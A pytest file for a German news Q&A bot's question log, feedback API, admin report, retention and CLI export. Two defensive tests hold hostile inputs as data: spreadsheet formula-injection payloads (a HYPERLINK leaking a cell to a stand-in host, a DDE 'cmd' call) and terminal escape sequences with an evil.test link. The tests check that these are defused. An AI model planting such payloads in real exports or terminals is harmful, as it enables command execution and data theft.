"""The question log and the feedback loop: answer ids in the API, ``POST /v1/feedback``,
``GET /v1/report`` over a seeded log, retention, logging switched off or failing, and the CLI
(``ask`` and the REPL are logged, ``newsbot report`` in text, JSON and CSV, helpful answers
exported as a SQuAD set that ``newsbot eval`` reads)."""

from __future__ import annotations

import csv
import io
import json
import logging
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient

from bot.answer import LOW_CONFIDENCE, Answer
from bot.errors import ForeignAnswerError, UnknownAnswerError
from bot.feedback import FILE_NAME, QuestionLog
from bot.http import create_app
from bot.settings import Settings
from index.feedback import SCHEMA_VERSION, FeedbackStore
from tests.conftest import ROOT, invoke_cli, negotiation, sse_events

READ, OTHER, ADMIN = "fb-read-key-0123456789", "fb-other-key-0123456789", "fb-admin-key-0123456789"
ANSWER_KEYS = {"question", "answer", "refused", "language", "citations", "note", "timings_ms", "mode", "confidence"}


def app_settings(index_settings: Settings, data_dir: Path, **overrides: Any) -> Settings:
    """The module's index (through the injected ``qa``), but a question log of the test's own."""
    values = {"data_dir": data_dir, "api_keys": f"{READ},{OTHER}", "admin_keys": ADMIN, **overrides}
    return Settings(**{**index_settings.model_dump(), **values})


@pytest.fixture
def client(index_settings, qa, tmp_path) -> Iterator[TestClient]:
    app = create_app(app_settings(index_settings, tmp_path / "log"), qa=qa)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client


def error(response, status: int, code: str) -> str:
    assert response.status_code == status, response.text
    body = response.json()
    assert set(body) == {"error"} and body["error"]["code"] == code
    return body["error"]["message"]


def refusal(question: str) -> Answer:
    return Answer(question=question, text="Dazu habe ich in den Artikeln nichts gefunden.", refused=True, language="de")


# ---- answer ids and feedback ---------------------------------------------------------------------


def test_answers_carry_an_answer_id_that_only_the_asking_key_can_rate(client):
    log: QuestionLog = client.app.state.server.questions
    response = client.post(
        "/v1/ask", json={"question": "Wie lange haben die Bücherhallen geöffnet?"}, headers={"X-API-Key": READ}
    )
    assert response.status_code == 200
    body = response.json()
    assert set(body) == ANSWER_KEYS | {"answer_id"}  # the old fields, unchanged, plus the id
    answer_id = body["answer_id"]
    assert isinstance(answer_id, str) and len(answer_id) >= 22  # secrets.token_urlsafe(16)

    with client.stream(
        "POST", "/v1/ask/stream", json={"question": "Wer hat in Belarus verhandelt?"}, headers={"X-API-Key": READ}
    ) as stream:
        events = sse_events(stream.iter_lines())
    final = next(data for event, data in events if event == "answer")
    assert final["answer_id"] and final["answer_id"] != answer_id
    assert log.get(final["answer_id"]).question == "Wer hat in Belarus verhandelt?"

    # What was logged: the question, the answer's citations (article ids and quotes), never the key.
    entry = log.get(answer_id)
    assert entry is not None and entry.front_end == "api" and entry.refused is False and entry.mode == "extractive"
    assert entry.question == "Wie lange haben die Bücherhallen geöffnet?" and entry.rating is None
    assert [(c.article_id, list(c.quotes)) for c in entry.citations] == [
        (c["article_id"], c["quotes"]) for c in body["citations"]
    ]
    assert READ not in (entry.owner or "") and entry.user_ref is None

    feedback = {"answer_id": answer_id, "rating": "wrong", "comment": "  Das   Datum fehlt. "}
    error(client.post("/v1/feedback", json=feedback), 401, "unauthorized")
    message = error(client.post("/v1/feedback", json=feedback, headers={"X-API-Key": OTHER}), 403, "forbidden")
    assert "another API key" in message
    assert log.get(answer_id).rating is None  # the stranger's verdict was not taken

    taken = client.post("/v1/feedback", json=feedback, headers={"X-API-Key": READ})
    assert taken.status_code == 200, taken.text
    assert taken.json()["rating"] == "wrong" and taken.json()["comment"] == "Das Datum fehlt."
    rated = log.get(answer_id).rating
    assert rated is not None and (rated.rating, rated.comment, rated.front_end) == ("wrong", "Das Datum fehlt.", "api")

    # The latest verdict counts; a verdict without a comment clears the old comment.
    client.post("/v1/feedback", json={"answer_id": answer_id, "rating": "helpful"}, headers={"X-API-Key": READ})
    assert (log.get(answer_id).rating.rating, log.get(answer_id).rating.comment) == ("helpful", None)

    unknown = {"answer_id": "x" * 22, "rating": "wrong"}
    message = error(client.post("/v1/feedback", json=unknown, headers={"X-API-Key": READ}), 404, "not_found")
    assert "NEWSBOT_LOG_RETENTION_DAYS" in message
    for bad in (
        {"answer_id": "a b", "rating": "wrong"},
        {"answer_id": answer_id, "rating": "meh"},
        {"rating": "wrong"},
    ):
        error(client.post("/v1/feedback", json=bad, headers={"X-API-Key": READ}), 422, "invalid_request")
    too_long = {"answer_id": answer_id, "rating": "wrong", "comment": "x" * 501}
    error(client.post("/v1/feedback", json=too_long, headers={"X-API-Key": READ}), 422, "invalid_request")


def test_an_answer_from_another_front_end_cannot_be_rated_over_the_api(client, qa):
    log: QuestionLog = client.app.state.server.questions
    answer_id = log.record(qa.ask("Wer hat in Belarus verhandelt?"), front_end="telegram", chat_type="private")
    assert answer_id is not None
    error(
        client.post("/v1/feedback", json={"answer_id": answer_id, "rating": "wrong"}, headers={"X-API-Key": READ}),
        403,
        "forbidden",
    )
    with pytest.raises(ForeignAnswerError):
        log.rate(answer_id, "wrong", front_end="api", owner="api:someone")
    assert log.rate(answer_id, "wrong", front_end="telegram").rating == "wrong"


# ---- the report ---------------------------------------------------------------------------------


def test_report_needs_an_admin_key_and_aggregates_the_log(index_settings, qa, tmp_path):
    settings = app_settings(index_settings, tmp_path / "log")
    noon = datetime.now(UTC).replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=1)
    when = [noon]
    seeding = QuestionLog(settings, clock=lambda: when[0])

    def log(days_ago: int, answer: Answer, front_end: str) -> str:
        when[0] = noon - timedelta(days=days_ago)
        answer_id = seeding.record(answer, front_end=front_end, owner=front_end)
        assert answer_id is not None
        return answer_id

    log(40, refusal("Wo liegt Atlantis?"), "api")  # before --since
    log(3, refusal("Wer hat in Belarus verhandelt?"), "api")
    log(3, refusal("wer hat in Belarus verhandelt"), "api")  # case and punctuation: the same question
    log(2, refusal("Wer verhandelte in Belarus?"), "telegram")  # another wording of it
    log(2, refusal("Was kostet die Fähre nach Helgoland?"), "api")
    hours = log(1, replace(qa.ask("Wie lange haben die Bücherhallen geöffnet?"), confidence=0.9), "cli")
    log(1, replace(qa.ask("Wo wollen sich Lawrow und Kuleba treffen?"), confidence=0.3), "api")  # said it was unsure
    seeding.rate(hours, "wrong", front_end="cli", comment="Die Zeiten gelten erst ab Montag.")
    seeding.close()

    app = create_app(settings, qa=qa)
    with TestClient(app, raise_server_exceptions=False) as client:
        error(client.get("/v1/report"), 401, "unauthorized")
        assert "admin key" in error(client.get("/v1/report", headers={"X-API-Key": READ}), 403, "forbidden")
        since = (noon - timedelta(days=7)).date().isoformat()
        response = client.get("/v1/report", params={"since": since}, headers={"X-API-Key": ADMIN})
        assert response.status_code == 200, response.text
        report = response.json()
        everything = client.get("/v1/report", headers={"X-API-Key": ADMIN}).json()
        error(
            client.get("/v1/report", params={"since": "gestern"}, headers={"X-API-Key": ADMIN}), 422, "invalid_request"
        )

    assert report["totals"] == {"questions": 6, "answered": 2, "refused": 4, "helpful": 0, "wrong": 1, "unsure": 1}
    (unsure,) = report["unsure"]  # answered, but the answer said its quote may not answer
    assert (unsure["question"], unsure["count"]) == ("Wo wollen sich Lawrow und Kuleba treffen?", 1)
    assert report["logging"] is True and report["since"].startswith(since)
    top, second = report["refused"]
    assert (top["question"], top["count"]) == ("Wer hat in Belarus verhandelt?", 3)
    assert top["variants"] == ["Wer verhandelte in Belarus?"]
    assert (second["question"], second["count"]) == ("Was kostet die Fähre nach Helgoland?", 1)
    (wrong,) = report["wrong"]
    assert wrong["question"] == "Wie lange haben die Bücherhallen geöffnet?" and wrong["front_end"] == "cli"
    assert wrong["comment"] == "Die Zeiten gelten erst ab Montag." and wrong["refused"] is False
    assert wrong["citations"][0]["article_id"] == "hamburg-bibliothek"
    assert any("22 Uhr" in q for q in wrong["citations"][0]["quotes"])
    assert report["asked"][0] == top  # the most asked question is the most refused one
    assert report["topics"][0] == {"term": "Belarus", "count": 3}
    berlin = ZoneInfo("Europe/Berlin")

    def day(days_ago: int) -> str:
        return (noon - timedelta(days=days_ago)).astimezone(berlin).date().isoformat()

    assert report["daily"] == [
        {"day": day(3), "front_end": "api", "answered": 0, "refused": 2},
        {"day": day(2), "front_end": "api", "answered": 0, "refused": 1},
        {"day": day(2), "front_end": "telegram", "answered": 0, "refused": 1},
        {"day": day(1), "front_end": "api", "answered": 1, "refused": 0},
        {"day": day(1), "front_end": "cli", "answered": 1, "refused": 0},
    ]
    assert everything["totals"]["questions"] == 7
    assert any(g["question"] == "Wo liegt Atlantis?" for g in everything["refused"])


def test_grouping_compares_only_the_most_frequent_wordings(monkeypatch):
    """A long log of distinct questions: the fuzzy grouping stays within MAX_SIMILAR**2 comparisons,
    and the most asked group still comes first, with its other wording."""
    import random
    import string

    from rapidfuzz import fuzz

    from bot import feedback

    compared = [0]

    def counting(a: str, b: str, **kwargs: Any) -> float:
        compared[0] += 1
        return fuzz.token_set_ratio(a, b, **kwargs)

    monkeypatch.setattr(feedback, "fuzz", SimpleNamespace(token_set_ratio=counting))
    monkeypatch.setattr(feedback, "MAX_SIMILAR", 30)
    rng = random.Random(15)

    def word() -> str:
        return "".join(rng.choice(string.ascii_lowercase) for _ in range(9))

    t0 = datetime(2024, 5, 1, 9, 0, tzinfo=UTC)
    asked = [("Wer hat in Belarus verhandelt?", t0)] * 6 + [("Wer verhandelte in Belarus?", t0)] * 3
    asked += [("Was kostet die Fähre nach Helgoland?", t0)] * 2
    asked += [(f"Was wurde aus {word()} und {word()}?", t0 + timedelta(minutes=i)) for i in range(300)]
    groups = feedback.group_questions(asked)

    assert 0 < compared[0] <= 30 * 30  # unbounded: about 300 * 300 / 2
    top, second = groups[:2]
    assert (top.question, top.count, top.variants) == (
        "Wer hat in Belarus verhandelt?",
        9,
        ["Wer verhandelte in Belarus?"],
    )
    assert (second.question, second.count) == ("Was kostet die Fähre nach Helgoland?", 2)
    assert sum(g.count for g in groups) == len(asked) and len(groups) == 2 + 300


def test_the_report_runs_within_the_request_timeout(index_settings, qa, tmp_path, monkeypatch):
    """``GET /v1/report`` is bounded like a question: past NEWSBOT_REQUEST_TIMEOUT it answers 504."""
    settings = app_settings(index_settings, tmp_path / "log", request_timeout=0.5)
    release = threading.Event()
    app = create_app(settings, qa=qa)
    with TestClient(app, raise_server_exceptions=False) as client:
        log: QuestionLog = client.app.state.server.questions
        report = log.report

        def slow_report(**kwargs: Any) -> Any:
            release.wait(timeout=30)  # held until the request has been answered
            return report(**kwargs)

        monkeypatch.setattr(log, "report", slow_report)
        try:
            response = client.get("/v1/report", headers={"X-API-Key": ADMIN})
        finally:
            release.set()
        error(response, 504, "timeout")


# ---- retention and switching the log off -----------------------------------------------------------


def test_retention_deletes_old_entries_on_write_and_on_open(tmp_path):
    settings = Settings(data_dir=tmp_path / "data", log_retention_days=30)
    t0 = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)
    now = [t0]
    log = QuestionLog(settings, clock=lambda: now[0])
    first = log.record(refusal("Wo liegt Atlantis?"), front_end="cli")
    log.rate(first, "helpful", front_end="cli")
    now[0] = t0 + timedelta(days=10)
    second = log.record(refusal("Wer hat in Belarus verhandelt?"), front_end="cli")
    assert log.store.count() == 2

    now[0] = t0 + timedelta(days=31)  # the first is past 30 days: the next write deletes it
    third = log.record(refusal("Was kostet die Fähre?"), front_end="cli")
    assert log.store.count() == 2 and log.get(first) is None
    with pytest.raises(UnknownAnswerError):
        log.rate(first, "wrong", front_end="cli")
    log.close()
    with sqlite3.connect(tmp_path / "data" / FILE_NAME) as db:
        assert db.execute("SELECT count(*) FROM feedback").fetchone()[0] == 0  # its feedback went with it

    reopened = QuestionLog(settings, clock=lambda: t0 + timedelta(days=45))
    assert reopened.store.count() == 1  # opening deleted the second (35 days old) before anything else
    assert [e.answer_id for e in reopened.entries()] == [third]
    assert reopened.get(second) is None
    reopened.close()


# The question log's tables as schema 1 wrote them (before answers had a confidence).
SCHEMA_1 = """
CREATE TABLE questions (
    answer_id TEXT PRIMARY KEY,
    asked_ts REAL NOT NULL,
    front_end TEXT NOT NULL,
    owner TEXT,
    chat_type TEXT,
    user_ref TEXT,
    question TEXT NOT NULL,
    query TEXT,
    language TEXT,
    refused INTEGER NOT NULL,
    mode TEXT NOT NULL,
    answer TEXT NOT NULL,
    citations TEXT NOT NULL DEFAULT '[]'
);
CREATE INDEX questions_asked ON questions (asked_ts);
CREATE TABLE feedback (
    answer_id TEXT PRIMARY KEY REFERENCES questions (answer_id) ON DELETE CASCADE,
    rating TEXT NOT NULL CHECK (rating IN ('helpful', 'wrong')),
    comment TEXT,
    front_end TEXT NOT NULL,
    rated_ts REAL NOT NULL
);
"""


def _schema_1_log(path: Path) -> None:
    """A question log as newsbot wrote it before answers had a confidence, with one answer: in WAL
    mode, as every log is (a second opener switching a rollback-journal file to WAL while the first
    upgrades it would find it locked, which no real log is)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with closing(sqlite3.connect(path)) as db:
        db.execute("PRAGMA journal_mode=WAL")
        db.executescript(SCHEMA_1)
        db.execute(
            "INSERT INTO questions (answer_id, asked_ts, front_end, question, refused, mode, answer) "
            "VALUES ('old', ?, 'cli', 'Wer hat in Belarus verhandelt?', 0, 'extractive', 'Laut ...')",
            (datetime.now(UTC).timestamp(),),
        )
        db.execute("PRAGMA user_version = 1")
        db.commit()


def connect_through(factory: type[sqlite3.Connection], monkeypatch: pytest.MonkeyPatch) -> None:
    """Every SQLite connection opened from here on is a ``factory``: a real connection whose
    ``execute`` a test steers (a race, a newer newsbot, a full disk) at one statement."""
    connect = sqlite3.connect
    monkeypatch.setattr(sqlite3, "connect", lambda *a, **kw: connect(*a, **{**kw, "factory": factory}))


def full_disk_at(statement: str) -> type[sqlite3.Connection]:
    """A connection whose disk fills at the first ``statement`` ("ALTER TABLE", "DELETE"): SQLite
    ends the transaction itself, as it does on SQLITE_FULL, and the statement fails."""

    class FullDisk(sqlite3.Connection):
        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:  # type: ignore[override]
            if sql.lstrip().upper().startswith(statement):
                super().execute("ROLLBACK")
                raise sqlite3.OperationalError("database or disk is full")
            return super().execute(sql, *args)

    return FullDisk


def test_a_log_of_the_previous_schema_is_upgraded_in_place(tmp_path):
    """A question log written before answers had a confidence (schema 1) opens, keeps its entries
    (their confidence unknown) and takes new ones with it."""
    path = tmp_path / "data" / FILE_NAME
    _schema_1_log(path)
    log = QuestionLog(Settings(data_dir=tmp_path / "data"))
    (old,) = log.entries()
    assert old.answer_id == "old" and old.confidence is None
    unsure = Answer(
        question="Wo treffen sich Lawrow und Kuleba?", text="Laut ...", refused=False, language="de", confidence=0.2
    )
    new = log.record(unsure, front_end="cli")
    assert new is not None and log.get(new).confidence == 0.2
    report = log.report()
    assert report.totals.unsure == 1 and [g.question for g in report.unsure] == ["Wo treffen sich Lawrow und Kuleba?"]
    log.close()
    with closing(sqlite3.connect(path)) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 2


def test_processes_opening_an_old_log_at_once_upgrade_it_once(tmp_path, monkeypatch):
    """The API, the bot and the CLI start together after an upgrade: each opens the schema-1 log,
    and both of two that found the column missing must not add it (the second failed with
    "duplicate column name"). The connections here wait for each other just before adding it,
    so the race is not left to chance: where the upgrade holds the write lock from its first
    look to its last, the one holding it waits for the other in vain (a second) and upgrades the
    log, and the other, waiting for the lock, then finds it upgraded."""
    path = tmp_path / "data" / FILE_NAME
    _schema_1_log(path)
    before_alter = threading.Barrier(2, timeout=1.0)

    class Racing(sqlite3.Connection):
        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:  # type: ignore[override]
            if sql.lstrip().upper().startswith("ALTER TABLE"):
                with suppress(threading.BrokenBarrierError):
                    before_alter.wait()
            return super().execute(sql, *args)

    connect_through(Racing, monkeypatch)
    stores = [FeedbackStore(path, retention_days=30) for _ in range(2)]
    errors: list[BaseException] = []

    def open_it(store: FeedbackStore) -> None:
        try:
            store.count()
        except BaseException as exc:  # what the test looks for
            errors.append(exc)

    threads = [threading.Thread(target=open_it, args=(store,)) for store in stores]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert [e.answer_id for e in stores[0].entries()] == ["old"]
    for store in stores:
        store.close()


def test_a_log_a_newer_newsbot_upgrades_while_this_one_waits_to_upgrade_it_is_refused(tmp_path, monkeypatch):
    """Between this newsbot's first look at an old log and its write lock, a newer newsbot may
    upgrade the log: the version read under the lock is checked again, and the log refused
    untouched (before, this one went on and wrote rows a newer schema may read otherwise)."""
    path = tmp_path / "data" / FILE_NAME
    _schema_1_log(path)

    class Overtaken(sqlite3.Connection):
        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:  # type: ignore[override]
            if sql.strip().upper() == "BEGIN IMMEDIATE":  # the newer newsbot gets the lock first
                with closing(sqlite3.connect(path)) as newer:
                    newer.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
                    newer.commit()
            return super().execute(sql, *args)

    connect_through(Overtaken, monkeypatch)
    store = FeedbackStore(path, retention_days=30)
    with pytest.raises(sqlite3.DatabaseError, match="newer newsbot"):
        store.count()
    monkeypatch.undo()
    with closing(sqlite3.connect(path)) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION + 1
        assert "confidence" not in {row[1] for row in db.execute("PRAGMA table_info(questions)")}


def test_an_upgrade_that_sqlite_rolls_back_itself_reports_the_error_that_did_it(tmp_path, monkeypatch):
    """On a full disk or an I/O error SQLite ends the transaction itself: the upgrade reports that
    error (which ``index.errors`` explains to the admin), not "cannot rollback - no transaction is
    active" from rolling back a second time; the log stays at its old schema."""
    path = tmp_path / "data" / FILE_NAME
    _schema_1_log(path)

    connect_through(full_disk_at("ALTER TABLE"), monkeypatch)
    store = FeedbackStore(path, retention_days=30)
    with pytest.raises(sqlite3.OperationalError, match="disk is full"):
        store.count()
    monkeypatch.undo()
    with closing(sqlite3.connect(path)) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == 1


def test_a_write_that_sqlite_rolls_back_itself_reports_the_error_that_did_it(tmp_path, monkeypatch):
    """The same for every write to the log (here the retention purge): the full disk is what
    fails, and the log keeps its entries."""
    path = tmp_path / "data" / FILE_NAME
    _schema_1_log(path)
    FeedbackStore(path, retention_days=30).count()  # upgraded, before the disk fills

    connect_through(full_disk_at("DELETE"), monkeypatch)
    store = FeedbackStore(path, retention_days=30)
    with pytest.raises(sqlite3.OperationalError, match="disk is full"):
        store.count()  # (opening the log purges what is past the retention period)
    monkeypatch.undo()
    assert [e.answer_id for e in FeedbackStore(path, retention_days=30).entries()] == ["old"]


def test_logging_off_the_report_reads_a_log_of_the_previous_schema(tmp_path):
    """Logging off, the log is only read, never upgraded: an old log's answers read with their
    confidence unknown; a log of a newer newsbot is refused, not misread."""
    data = tmp_path / "data"
    _schema_1_log(data / FILE_NAME)
    off = Settings(data_dir=data, log_questions=False)
    with QuestionLog(off) as log:
        report = log.report()
    assert report.totals.questions == 1 and report.totals.unsure == 0 and report.logging is False
    with closing(sqlite3.connect(data / FILE_NAME)) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == 1  # read, not written
        db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
        db.commit()
    with QuestionLog(off) as log, pytest.raises(sqlite3.DatabaseError, match="newer newsbot"):
        log.report()


def test_logging_off_stores_nothing_and_feedback_says_why(index_settings, qa, tmp_path):
    settings = app_settings(index_settings, tmp_path / "log", log_questions=False)
    with TestClient(create_app(settings, qa=qa), raise_server_exceptions=False) as client:
        body = client.post("/v1/ask", json={"question": "Wer hat in Belarus verhandelt?"}, headers={"X-API-Key": READ})
        assert body.status_code == 200 and body.json()["answer_id"] is None and not body.json()["refused"]
        rate = {"answer_id": "x" * 22, "rating": "helpful"}
        message = error(client.post("/v1/feedback", json=rate, headers={"X-API-Key": READ}), 409, "logging_off")
        assert "NEWSBOT_LOG_QUESTIONS=false" in message
        report = client.get("/v1/report", headers={"X-API-Key": ADMIN}).json()
        assert report["logging"] is False and report["totals"]["questions"] == 0
    assert not (tmp_path / "log" / FILE_NAME).exists()


def rows_in(path: Path) -> int:
    with closing(sqlite3.connect(path)) as db:
        return int(db.execute("SELECT count(*) FROM questions").fetchone()[0])


def test_logging_off_the_report_reads_the_kept_log_without_writing_it(tmp_path):
    """Switched off, nothing is written: ``newsbot report`` neither creates the log nor purges it."""
    off = {"NEWSBOT_LOG_QUESTIONS": "false"}
    data = Path(Settings().data_dir)
    nothing = invoke_cli("report", "--json", env=off)
    assert nothing.returncode == 0, nothing.stderr
    assert json.loads(nothing.stdout)["totals"]["questions"] == 0 and not (data / FILE_NAME).exists()

    now = datetime.now(UTC)
    when = [now - timedelta(days=100)]  # kept for a year here; past the 90 days `report` keeps
    with QuestionLog(Settings(log_retention_days=365), clock=lambda: when[0]) as log:
        log.record(refusal("Wo liegt Atlantis?"), front_end="cli")
        when[0] = now - timedelta(days=1)
        log.record(refusal("Wer hat in Belarus verhandelt?"), front_end="cli")
    kept = (data / FILE_NAME).read_bytes()
    assert rows_in(data / FILE_NAME) == 2

    report = invoke_cli("report", "--json", env=off)
    assert report.returncode == 0, report.stderr
    shown = json.loads(report.stdout)
    assert shown["logging"] is False and shown["totals"]["questions"] == 1  # the expired row is not shown ...
    assert [g["question"] for g in shown["refused"]] == ["Wer hat in Belarus verhandelt?"]
    assert "Question logging is off" in invoke_cli("report", env=off).stdout
    assert (data / FILE_NAME).read_bytes() == kept and rows_in(data / FILE_NAME) == 2  # ... nor deleted


def test_a_log_that_cannot_be_written_never_costs_the_answer(index_settings, qa, tmp_path, caplog):
    (tmp_path / "log" / FILE_NAME).mkdir(parents=True)  # SQLite cannot open a directory
    with TestClient(create_app(app_settings(index_settings, tmp_path / "log"), qa=qa)) as client:
        with caplog.at_level(logging.WARNING, logger="bot.feedback"):
            response = client.post(
                "/v1/ask", json={"question": "Wer hat in Belarus verhandelt?"}, headers={"X-API-Key": READ}
            )
    assert response.status_code == 200
    assert response.json()["answer_id"] is None and negotiation(response.json()["answer"])
    assert any("question not logged" in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)


# ---- the command line --------------------------------------------------------------------------------


def test_csv_cells_cannot_become_spreadsheet_formulas():
    from bot.cli.feedback import _defused

    formulas = ['=HYPERLINK("http://x/?"&A1,"click")', "+49 40 1234 Wer ruft an?", "-Wo? Wann?", "@SUMME(A1)"]
    with QuestionLog(Settings()) as log:
        for question in formulas:
            log.record(refusal(question), front_end="cli")
        answer_id = log.record(refusal("Wo liegt Atlantis?"), front_end="cli")
        assert answer_id is not None
        log.rate(answer_id, "wrong", front_end="cli", comment="=cmd|' /C calc'!A0")
    rows = list(csv.DictReader(io.StringIO(invoke_cli("report", "--csv").stdout)))
    refused = {r["item"] for r in rows if r["section"] == "refused"}
    assert refused == {"'" + q for q in formulas} | {"Wo liegt Atlantis?"}
    (wrong,) = [r for r in rows if r["section"] == "wrong"]
    assert wrong["detail"] == "'=cmd|' /C calc'!A0" and wrong["item"] == "Wo liegt Atlantis?"
    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in rows for k in r)
    assert [_defused(c) for c in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]


def test_cli_ask_and_repl_are_logged_reported_and_exported_for_eval(tmp_path):
    assert invoke_cli("ingest", str(ROOT / "corpus")).returncode == 0
    data = Path(Settings().data_dir)
    asked = invoke_cli("ask", "Wer hat in Belarus verhandelt?", "--json")
    assert asked.returncode == 0, asked.stderr
    answer = json.loads(asked.stdout)
    assert answer["answer_id"] and not answer["refused"]
    assert invoke_cli("ask", "Wie viele Einhörner leben auf dem Mond?").returncode == 0
    repl = invoke_cli("repl", input="wie viele Einhörner leben auf dem Mond\n:quit\n")
    assert repl.returncode == 0 and "nichts gefunden" in repl.stdout
    off = invoke_cli("ask", "Wo liegt Atlantis?", env={"NEWSBOT_LOG_QUESTIONS": "false"})
    assert off.returncode == 0  # answered, not logged

    report = json.loads(invoke_cli("report", "--json").stdout)
    unsure = int(answer["confidence"] < LOW_CONFIDENCE)  # the answer said so, and the report counts it
    assert report["totals"] == {"questions": 3, "answered": 1, "refused": 2, "helpful": 0, "wrong": 0, "unsure": unsure}
    assert report["refused"][0]["question"] in (
        "Wie viele Einhörner leben auf dem Mond?",
        "wie viele Einhörner leben auf dem Mond",
    )
    assert report["refused"][0]["count"] == 2 and len(report["refused"]) == 1
    assert {d["front_end"] for d in report["daily"]} == {"cli", "repl"}

    text = invoke_cli("report").stdout
    assert "3 questions: 1 answered, 2 refused" in text and "Refused most often:" in text
    assert "searched as" not in text  # no follow-up was refused
    assert "2x  " in text and "Einhörner" in text
    rows = list(csv.DictReader(io.StringIO(invoke_cli("report", "--csv").stdout)))
    assert {r["section"] for r in rows} >= {"refused", "asked", "topic", "daily"}
    (refused,) = [r for r in rows if r["section"] == "refused"]
    assert refused["count"] == "2"
    assert sum(int(r["refused"]) for r in rows if r["section"] == "daily") == 2
    assert invoke_cli("report", "--json", "--csv").returncode == 2
    assert invoke_cli("report", "--since", "kein Datum").returncode == 2

    # Answers marked helpful become a SQuAD regression set that `newsbot eval` reads.
    export = tmp_path / "helpful.json"
    nothing = invoke_cli("report", "--export-helpful", str(export))
    assert nothing.returncode == 2 and "marked helpful" in nothing.stderr
    with QuestionLog(Settings()) as log:
        log.rate(answer["answer_id"], "helpful", front_end="cli")
    written = invoke_cli("report", "--export-helpful", str(export))
    assert written.returncode == 0, written.stderr
    squad = json.loads(export.read_text(encoding="utf-8"))
    (article,) = squad["data"]
    (paragraph,) = article["paragraphs"]
    (qa,) = paragraph["qas"]
    quote = answer["citations"][0]["quotes"][0]
    assert qa["question"] == "Wer hat in Belarus verhandelt?" and qa["answers"][0]["text"] == quote
    assert paragraph["context"][qa["answers"][0]["answer_start"] :].startswith(quote)
    assert len(paragraph["context"]) > len(quote) * 3  # the article's text, not only the sentence
    result = invoke_cli("eval", str(export), "--json")
    assert result.returncode == 0, result.stderr
    metrics = json.loads(result.stdout)
    # the question finds its article again (eval indexes paragraphs without their titles, so the
    # reader's verdict on the quote may differ from the live answer's)
    assert metrics["n"] == 1 and metrics["recall1"] == 1.0 and metrics["mrr10"] == 1.0
    assert (data / FILE_NAME).exists()


def test_a_refused_follow_up_is_reported_with_the_question_it_was_searched_as(tmp_path):
    """An editor reading "Und dort?" among the refusals needs what newsbot searched for."""
    assert invoke_cli("ingest", str(ROOT / "corpus")).returncode == 0
    repl = invoke_cli("repl", input="Wo liegt Atlantis?\nUnd wann ist es dort versunken?\n:quit\n")
    assert repl.returncode == 0, repl.stderr
    report = json.loads(invoke_cli("report", "--json").stdout)
    searched = {g["question"]: g["searched_as"] for g in report["refused"]}
    follow_up = "Und wann ist es dort versunken?"
    assert searched == {follow_up: f"{follow_up} liegt Atlantis", "Wo liegt Atlantis?": None}
    text = invoke_cli("report").stdout
    assert f"{follow_up}  (searched as: {follow_up} liegt Atlantis)" in text


def test_the_text_report_sends_no_terminal_escape_sequences(tmp_path):
    """Questions and comments are anyone's input: ESC [2J (clear screen) or an OSC 8 link in them
    must reach an editor's terminal as visible characters, not as commands."""
    assert invoke_cli("ingest", str(ROOT / "corpus")).returncode == 0
    asked = invoke_cli(
        "ask", "Wer hat in Belarus verhandelt?\x1b[2J\x1b]8;;http://evil.test\x07hier\x1b]8;;\x07", "--json"
    )
    assert asked.returncode == 0, asked.stderr
    with QuestionLog(Settings()) as log:
        log.rate(json.loads(asked.stdout)["answer_id"], "wrong", front_end="cli", comment="falsch\x1b[31m rot\x9b0m")
    text = invoke_cli("report").stdout
    assert "Belarus" in text and "falsch" in text
    assert not any(c in text for c in "\x1b\x07\x9b")
